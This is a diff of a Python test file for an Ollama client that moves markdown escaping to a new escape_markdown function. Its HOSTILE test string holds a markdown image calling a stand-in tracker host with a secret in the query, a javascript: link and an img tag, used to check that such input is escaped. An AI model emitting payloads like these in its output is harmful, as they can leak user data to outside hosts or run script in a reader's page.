@@ -6,7 +6,8 @@ import re
 
 import pytest
 
-from lib.client import OllamaClient, quote_server_text
+from lib.client import OllamaClient
+from lib.markdown_safety import escape_markdown
 from lib.errors import OllamaError
 
 HOSTILE = '![x](http://tracker.example/?q=secret) [click](javascript:alert(1)) <img src=x> `code` $x$ a_b *c* ~d~ \\'
@@ -23,7 +24,7 @@ HOSTILE = '![x](http://tracker.example/?q=secret) [click](javascript:alert(1)) <
     ],
 )
 def test_markdown_openers_are_escaped(text, quoted):
-    assert quote_server_text(text) == quoted
+    assert escape_markdown(text) == quoted
 
 
 @pytest.mark.parametrize(
